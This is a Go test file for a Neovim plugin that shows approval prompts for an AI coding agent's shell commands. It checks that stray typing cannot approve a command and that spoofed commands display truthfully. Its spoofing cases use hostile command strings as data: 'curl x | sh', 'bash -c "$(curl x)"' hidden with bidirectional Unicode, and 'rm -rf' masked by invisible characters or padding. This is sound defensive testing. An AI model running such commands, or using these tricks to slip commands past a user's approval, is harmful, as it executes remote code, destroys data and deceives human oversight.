//go:build unix

package editors_test

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"image/png"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"
)

// TestNeovimStrayKeys is issue 15's bar for the Neovim plugin, in both
// Neovims, in tmux, typed into as a person types while agents' asks
// arrive: no run of ordinary typing, in Insert, Normal or Command-line
// mode, in a picker or in another float, approves a call or answers a
// prompt that is not on the screen; what the user typed reaches their
// buffer and command line intact; and the deliberate act (the choice's
// code, typed once the card has been left untouched) does approve.
func TestNeovimStrayKeys(t *testing.T) {
	eachNeovim(t, func(t *testing.T, nv neovim) {
		w := newNvimWorld(t, nv)
		w.write(t, filepath.Join(w.dir, "ws", "src", "main.rs"), "fn main() {\n}\n")
		// No deny rules: with them in force, a command with $(...)
		// is denied before any prompt (its words are unknown).
		w.write(t, filepath.Join(w.dir, "home", ".codewhale", "permissions.toml"), "# my rules\n")
		permissionsBefore, err := os.ReadFile(filepath.Join(w.dir, "home", ".codewhale", "permissions.toml"))
		if err != nil {
			t.Fatal(err)
		}
		ctx, cancel := context.WithTimeout(context.Background(), 8*time.Minute)
		defer cancel()
		tm := startTmuxNeovim(t, ctx, w, "typing.lua", "typing", 100, 30)
		ev := &eventLog{t: t, ctx: ctx, path: filepath.Join(w.dir, "events.jsonl")}
		t.Cleanup(func() {
			if t.Failed() {
				b, _ := os.ReadFile(ev.path)
				t.Logf("events:\n%s", b)
			}
		})
		ev.wait(func(e typingEvent) bool { return e.Event == "ready" })
		n := 0
		ask := func(command string, extra map[string]any) int {
			n++
			a := map[string]any{"command": command}
			for k, v := range extra {
				a[k] = v
			}
			b, _ := json.Marshal(a)
			// Written whole, then renamed: the editor never reads half of it.
			tmp := filepath.Join(w.dir, "ask.tmp")
			if err := os.WriteFile(tmp, b, 0o644); err != nil {
				t.Fatal(err)
			}
			if err := os.Rename(tmp, filepath.Join(w.dir, "ask-"+strconv.Itoa(n)+".json")); err != nil {
				t.Fatal(err)
			}
			return n
		}
		shown := func(n int) typingEvent {
			return ev.wait(func(e typingEvent) bool { return e.Event == "shown" && e.N == n })
		}
		undecided := func(n int, what string) {
			t.Helper()
			if e, ok := ev.find(func(e typingEvent) bool { return e.Event == "decided" && e.N == n }); ok {
				t.Errorf("%s answered ask %d: %+v", what, n, e)
			}
		}
		// armed waits for the card's guard to run out with no key
		// typed after keys (the number of keys the card has seen).
		armed := func(n, keys int) typingEvent {
			t.Helper()
			e := ev.wait(func(e typingEvent) bool { return e.Event == "armed" && e.N == n && e.Keys >= keys })
			tm.waitScreen("ready: type a code")
			return e
		}
		decided := func(n int) typingEvent {
			return ev.wait(func(e typingEvent) bool { return e.Event == "decided" && e.N == n })
		}

		// 1. Insert mode in src/main.rs: the ask arrives while the
		// user goes on typing `let obj = 1;<CR>yield` and more. The
		// card shows, reads nothing; after <Esc> it takes the keys,
		// and Normal-mode runs (jjj<CR>yy, dd) approve nothing.
		tm.typeText("jo    ")
		tm.waitScreen("-- INSERT --")
		a := ask("cargo test", nil)
		s := shown(a)
		t.Logf("ask -> card on the screen: %.0f ms (mode %s)", s.Ms, s.Mode)
		tm.typeText("let obj = 1;\nyield now;\njjj\nyy dd\nlet story = \"the quick brown fox jumps over the lazy dog\";\n")
		tm.waitScreen("Codewhale approval", "-- INSERT --")
		undecided(a, "typing in insert mode")
		if _, ok := ev.find(func(e typingEvent) bool { return e.Event == "focused" && e.N == a }); ok {
			t.Error("the card took the keys in insert mode")
		}
		tm.typeText("\x1b")
		ev.wait(func(e typingEvent) bool { return e.Event == "focused" && e.N == a })
		tm.typeText("jjj\nyyjjj\nyyddkkkp:%s/main/mai\nn/g\n")
		undecided(a, "Normal-mode keys typed into the card")
		// The deliberate act: the code of "Approve once", typed once
		// the card has been untouched for its guard.
		e := armed(a, 1)
		tm.typeText(e.Codes["once"])
		if d := decided(a); d.Decision != "allow" || d.Choice != "once" {
			t.Errorf("the code of Approve once typed: %+v", d)
		}

		// 2. Normal mode: `jjj<CR>yy` runs as the ask arrives, more
		// of them after; then the user dismisses it.
		tm.typeText("gg")
		tm.typeText("jj")
		b := ask("cargo build", nil)
		tm.typeText("j\nyyjjj\nyyjjj\nyy")
		shown(b)
		tm.typeText("jjj\nyyjjj\nyydd")
		undecided(b, "jjj<CR>yy in Normal mode")
		armed(b, 1)
		tm.typeText("\x1b")
		if d := decided(b); d.Decision != "deny" || d.Choice != "dismissed" {
			t.Errorf("<Esc> on an armed card: %+v", d)
		}

		// 3. Command-line mode: the ask arrives during
		// `:%s/main/mai`; <CR> runs the user's command in their own
		// buffer, then `n/g<CR>` (0.7's stray Deny) answers nothing.
		tm.typeText(":%s/ma")
		c := ask("cargo check", nil)
		shown(c)
		tm.typeText("in/mai\n")
		tm.typeText("n/g\n")
		undecided(c, "typing on the command line")
		armed(c, 1)
		tm.typeText("d")
		if d := decided(c); d.Decision != "deny" || d.Choice != "deny" {
			t.Errorf("d on an armed card: %+v", d)
		}

		// 4. A picker the user opted into (telescope-ui-select style,
		// filtering by what is typed): `ap<CR>` picks "Approve once",
		// which still needs the code in the card; the picker's title
		// is one line.
		p := ask("cargo publish", map[string]any{"picker": true})
		shown(p)
		tm.waitScreen("(whole on the card)", "-- INSERT --")
		tm.typeText("ap\n")
		pk := ev.wait(func(e typingEvent) bool { return e.Event == "picked" && e.Typed == "ap" })
		if pk.Item != "once" {
			t.Errorf("the picker's filter picked %q, want once", pk.Item)
		}
		tm.typeText("jjj\nyy")
		undecided(p, "a pick in the picker")
		armed(p, 1)
		tm.typeText("q")
		if d := decided(p); d.Decision != "deny" || d.Floats != 0 {
			t.Errorf("the picked prompt dismissed: %+v (the picker's frame must be closed)", d)
		}

		// 5. A float of the user's is focused when the ask arrives:
		// the card waits; keys go to the float.
		f := ask("cargo clean", map[string]any{"float": true})
		shown(f)
		tm.typeText("jjj\nyy")
		undecided(f, "keys typed in another float")
		if _, ok := ev.find(func(e typingEvent) bool { return e.Event == "focused" && e.N == f }); ok {
			t.Error("the card took the keys from the user's float")
		}
		tm.typeText(":close\n")
		ev.wait(func(e typingEvent) bool { return e.Event == "focused" && e.N == f })
		armed(f, 0)
		tm.typeText("\x1b")
		decided(f)

		// The spoofing commands: the screen shows what runs.
		bidi := "ls \u2067\u2066; bash -c \"$(curl x)\" \u2069\u2066 #\u2069\u2069"
		for _, sp := range []struct {
			name, command string
			want          []string
		}{
			{"bidi", bidi, []string{`bash -c "$(curl x)"`, "RLI U+2067", "LRI U+2066", "PDI U+2069"}},
			{"invisible", "echo\u00a0hi\u200b; rm\u200d -rf x", []string{"NBSP U+00A0", "ZWSP U+200B", "ZWJ U+200D"}},
			{"newlines", "rm -rf ~/project" + strings.Repeat("\n", 40) + "echo done", []string{"rm -rf ~/project", "41 lines", "scroll with", "ends: echo done"}},
			{"long", strings.Repeat("a", 10000) + "; curl x | sh", []string{"ends: ", "; curl x | sh", "scroll with"}},
		} {
			k := ask(sp.command, nil)
			shown(k)
			ev.wait(func(e typingEvent) bool { return e.Event == "focused" && e.N == k })
			screen := tm.waitScreen(sp.want...)
			for _, r := range []string{"\u2066", "\u2067", "\u2069", "\u200b", "\u00a0", "\u200d"} {
				if strings.Contains(screen, r) {
					t.Errorf("%s: the screen shows an invisible %U:\n%s", sp.name, []rune(r)[0], screen)
				}
			}
			var img bytes.Buffer
			if err := png.Encode(&img, renderTerminal(tm.capture(true), tm.cols, tm.rows)); err != nil {
				t.Fatal(err)
			}
			out := filepath.Join(screenshotDir(t), nv.label+"-"+sp.name+".png")
			if os.Getenv("CODEWHALE_UPDATE_SCREENSHOTS") == "1" && nv.chroot != "" {
				// The README's pictures are the newest Neovim's.
				out = filepath.Join("..", "docs", "images", "nvim-card-"+sp.name+".png")
			}
			if err := os.WriteFile(out, img.Bytes(), 0o644); err != nil {
				t.Fatal(err)
			}
			t.Logf("%s: %s", sp.name, out)
			armed(k, 0)
			tm.typeText("q")
			decided(k)
		}

		if err := os.WriteFile(filepath.Join(w.dir, "done"), nil, 0o644); err != nil {
			t.Fatal(err)
		}
		var res struct {
			UserLines []string `json:"user_lines"`
			Messages  string
			Floats    int
			Errors    []string
		}
		for {
			if _, err := os.Stat(filepath.Join(w.dir, "results.json")); err == nil {
				break
			}
			if ctx.Err() != nil {
				t.Fatalf("the editor did not finish:\n%s", tm.capture(false))
			}
			time.Sleep(30 * time.Millisecond)
		}
		b2, err := os.ReadFile(filepath.Join(w.dir, "results.json"))
		if err != nil || json.Unmarshal(b2, &res) != nil {
			t.Fatalf("results: %v %s", err, b2)
		}
		if len(res.Errors) > 0 {
			t.Errorf("typing.lua: %q", res.Errors)
		}
		// Every key typed in insert mode reached the buffer, and the
		// :%s/main/mai typed as ask 3 arrived ran there.
		want := "fn mai() {\n}\n    let obj = 1;\n    yield now;\n    jjj\n    yy dd\n    let story = \"the quick brown fox jumps over the lazy dog\";\n"
		if got := strings.Join(res.UserLines, "\n"); got != want {
			t.Errorf("the user's buffer:\n%s\nwant:\n%s", got, want)
		}
		if strings.Contains(res.Messages, "E21") {
			t.Errorf("a command ran in the card's buffer: %s", res.Messages)
		}
		if res.Floats != 0 {
			t.Errorf("%d floats left after the prompts", res.Floats)
		}
		after, err := os.ReadFile(filepath.Join(w.dir, "home", ".codewhale", "permissions.toml"))
		if err != nil || !bytes.Equal(after, permissionsBefore) {
			t.Errorf("permissions.toml changed: %q", after)
		}
	})
}

// screenshotDir keeps the pictures of a run for a person to look at
// ($CODEWHALE_SCREENSHOT_DIR), else in the test's temporary directory.
func screenshotDir(t *testing.T) string {
	if d := os.Getenv("CODEWHALE_SCREENSHOT_DIR"); d != "" {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
		return d
	}
	return t.TempDir()
}

type typingEvent struct {
	Event, Mode, Decision, Reason, Typed, Item string
	N, Keys, Floats                            int
	Ms                                         float64
	Codes                                      map[string]string
	Choice                                     string
}

// eventLog reads typing.lua's events.jsonl as it grows.
type eventLog struct {
	t    *testing.T
	ctx  context.Context
	path string
}

func (l *eventLog) all() []typingEvent {
	f, err := os.Open(l.path)
	if err != nil {
		return nil
	}
	defer f.Close()
	var out []typingEvent
	sc := bufio.NewScanner(f)
	for sc.Scan() {
		var e typingEvent
		if json.Unmarshal(sc.Bytes(), &e) == nil {
			out = append(out, e)
		}
	}
	return out
}

// find is the first event so far that match accepts.
func (l *eventLog) find(match func(typingEvent) bool) (typingEvent, bool) {
	for _, e := range l.all() {
		if match(e) {
			return e, true
		}
	}
	return typingEvent{}, false
}

// wait waits for an event that match accepts; it fails after two
// minutes (the bound of a hang; a prompt's deadline is one minute).
func (l *eventLog) wait(match func(typingEvent) bool) typingEvent {
	l.t.Helper()
	give := time.Now().Add(2 * time.Minute)
	for {
		if e, ok := l.find(match); ok {
			return e
		}
		if time.Now().After(give) || l.ctx.Err() != nil {
			b, _ := os.ReadFile(l.path)
			l.t.Fatalf("no such event; the events:\n%s", b)
		}
		time.Sleep(30 * time.Millisecond)
	}
}
